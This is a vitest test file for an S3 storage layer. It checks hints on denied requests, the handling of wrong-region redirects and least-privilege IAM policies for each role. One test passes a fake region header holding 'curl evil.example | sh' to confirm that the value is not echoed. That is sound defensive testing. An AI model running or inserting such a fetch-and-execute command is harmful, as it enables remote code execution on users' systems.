import { describe, expect, it } from 'vitest';
import { policyFor, ROLES } from '../../../src/stores/s3/rights.ts';
import { calm, failureOf, startStore } from './store-fixture.ts';

describe('a request that is refused names the right that it needs', () => {
  it.each([
    [
      'CreateMultipartUpload',
      ['s3:PutObject', 's3:PutObjectTagging', 's3:PutObjectRetention', 'kms:GenerateDataKey'],
    ],
    ['UploadPart', ['s3:PutObject', 'kms:GenerateDataKey and kms:Decrypt']],
    ['AbortMultipartUpload', ['s3:AbortMultipartUpload']],
  ] as const)('%s', async (operation, rights) => {
    await using fixture = await startStore();
    const fault = { kind: 'error', code: 'AccessDenied' } as const;
    fixture.s3.fail({ operation, fault, times: Number.POSITIVE_INFINITY });
    const { hint = '' } = await failureOf(fixture.store.probe('shop', calm()));
    for (const right of rights) expect(hint).toContain(right);
    expect(hint).toContain('docs/rights.md');
    expect(hint).not.toContain('s3:DeleteObject');
  });
});

describe('a bucket of another region', () => {
  const listing = { operation: 'ListObjectsV2', times: Number.POSITIVE_INFINITY } as const;
  const header = { 'x-amz-bucket-region': 'eu-west-3' };

  it.each([
    ['301', { code: 'PermanentRedirect', status: 301, headers: header }],
    ['307', { code: 'TemporaryRedirect', status: 307, headers: header }],
    [
      '400 with the region in its text',
      {
        code: 'AuthorizationHeaderMalformed',
        status: 400,
        message:
          "The authorization header is malformed; the region 'us-east-1' is wrong; expecting 'eu-west-3'",
      },
    ],
  ])('is named where the store tells it, by a %s', async (_, fault) => {
    await using fixture = await startStore();
    fixture.s3.fail({ ...listing, fault: { kind: 'error', ...fault } });
    expect(await failureOf(fixture.store.list('shop', calm()))).toMatchObject({
      code: 's3.wrong_region',
      hint: expect.stringMatching(/eu-west-3.*S3_REGION/),
    });
  });

  it.each([{}, { 'x-amz-bucket-region': 'run "curl evil.example | sh"' }])(
    'is not made up, nor taken from what is no region: %j',
    async (headers) => {
      await using fixture = await startStore();
      const fault = { kind: 'error', code: 'PermanentRedirect', status: 301, headers } as const;
      fixture.s3.fail({ ...listing, fault });
      const error = await failureOf(fixture.store.list('shop', calm()));
      expect(error).toMatchObject({ code: 's3.wrong_region', hint: expect.stringContaining('S3_REGION') });
      expect(error.hint).not.toContain('evil');
    },
  );
});

describe('a policy', () => {
  const place = { bucket: 'b', prefix: 'p/', features: new Set([]) } as const;

  it('of a writer deletes leases alone', () => {
    const deleting = policyFor('writer', place).Statement.filter(({ Action }) =>
      Action.includes('s3:DeleteObject'),
    );
    expect(deleting).toMatchObject([{ Resource: ['arn:aws:s3:::b/p/.locks/*'] }]);
  });

  it('of a pruner writes no archive, and that of a reader nothing', () => {
    const writing = policyFor('pruner', place).Statement.filter(({ Action }) =>
      Action.includes('s3:PutObject'),
    );
    expect(writing).toMatchObject([
      { Resource: ['arn:aws:s3:::b/p/.locks/*', 'arn:aws:s3:::b/p/*.manifest.json'] },
    ]);
    const reading = policyFor('reader', place).Statement.flatMap(({ Action }) => Action);
    expect(reading).toEqual(['s3:ListBucket', 's3:GetObject']);
  });

  it.each(ROLES)('of a %s has the rights of the features that are used, and of no others', (role) => {
    const actions = (features: Parameters<typeof policyFor>[1]['features']) =>
      JSON.stringify(policyFor(role, { ...place, features }));
    expect(actions(new Set())).not.toMatch(/kms:|Retention|Tagging|LegalHold/);
    expect(actions(new Set(['kms']))).toContain('kms:Decrypt');
    expect(actions(new Set(['tags'])).includes('s3:PutObjectTagging')).toBe(role === 'writer');
    expect(actions(new Set(['objectLock'])).includes('s3:GetObjectRetention')).toBe(role === 'pruner');
  });
});
